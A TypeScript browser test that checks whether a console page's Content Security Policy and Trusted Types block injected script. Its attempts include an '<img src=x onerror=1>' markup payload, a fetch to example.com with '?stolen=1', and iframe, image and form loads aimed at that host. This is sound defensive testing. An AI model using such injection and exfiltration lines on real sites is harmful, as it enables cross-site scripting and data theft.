import { expect } from 'vitest';
import { consoleStory } from './console-window.ts';

/** What the browser reports about the attempts below, among them the page of the frame, which it blocks before anything is sent. */
const REPORTS = /Content Security Policy|Trusted(HTML|Script)|Refused|^request https:\/\/example\.com\/$/i;

const EXPECTED = ['connect-src', 'form-action', 'frame-src', 'img-src', 'require-trusted-types-for'];

interface Outcome {
  readonly tried: Readonly<Record<string, string>>;
  readonly violated: readonly string[];
  readonly cookie: string;
  readonly stored: string;
}

/** Runs in the page. After a timer, because the policy does not apply to what a debugger runs. */
const ATTEMPTS = `async (expected) => {
  await new Promise((resolve) => setTimeout(resolve));
  const violated = new Set();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective));
  const tried = {};
  const attempt = async (name, act) => {
    try {
      await act();
      tried[name] = 'passed';
    } catch (error) {
      tried[name] = error.name;
    }
  };
  await attempt('markup from text', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=1>'));
  await attempt('code from text', () => new Function('return 1')());
  await attempt('another host', () => fetch('https://example.com/?stolen=1'));
  await attempt('a handler from text', () => document.body.setAttribute('onclick', 'globalThis.ran = true'));
  const script = document.createElement('script');
  script.append('globalThis.ran = true');
  document.body.append(script);
  for (const [tag, member] of [['img', 'src'], ['iframe', 'src'], ['form', 'action']]) {
    const element = document.createElement(tag);
    element.setAttribute(member, 'https://example.com/');
    document.body.append(element);
    if (tag === 'form') element.submit();
  }
  tried['a script in the page'] = globalThis.ran ? 'passed' : 'did not run';
  for (let wait = 0; wait < 2_000 && !expected.every((name) => [...violated].some((each) => each.startsWith(name))); wait++)
    await new Promise((resolve) => setTimeout(resolve, 50));
  const stored = JSON.stringify([{ ...localStorage }, { ...sessionStorage }]);
  return { tried, violated: [...violated], cookie: document.cookie, stored };
}`;

consoleStory(
  'a script that got into the page could run no other, load no frame and no picture, and send nothing away',
  async ({ page, jar, open }) => {
    await open('deliveries');
    const ends: (string | undefined)[] = [];
    page.on(
      'requestfailed',
      (request) => request.url().includes('example.com') && ends.push(request.failure()?.errorText),
    );
    page.on('requestfinished', (request) => request.url().includes('example.com') && ends.push('it was sent'));
    const { tried, violated, cookie, stored }: Outcome = await page.evaluate(
      `(${ATTEMPTS})(${JSON.stringify(EXPECTED)})`,
    );
    expect(tried).toEqual({
      'markup from text': 'TypeError',
      'code from text': 'EvalError',
      'another host': 'TypeError',
      'a handler from text': 'TypeError',
      'a script in the page': 'did not run',
    });
    for (const directive of EXPECTED) expect(violated.join(' ')).toContain(directive);
    // Blocked by the policy, and not by a machine without a network.
    expect(ends.filter((end) => end !== 'csp' && end !== 'net::ERR_BLOCKED_BY_CSP')).toEqual([]);
    // The session is in a cookie that scripts cannot see, and no key is in storage.
    expect(cookie).toBe('');
    expect(stored).not.toContain(jar.adminKey);
  },
  { expected: REPORTS },
);
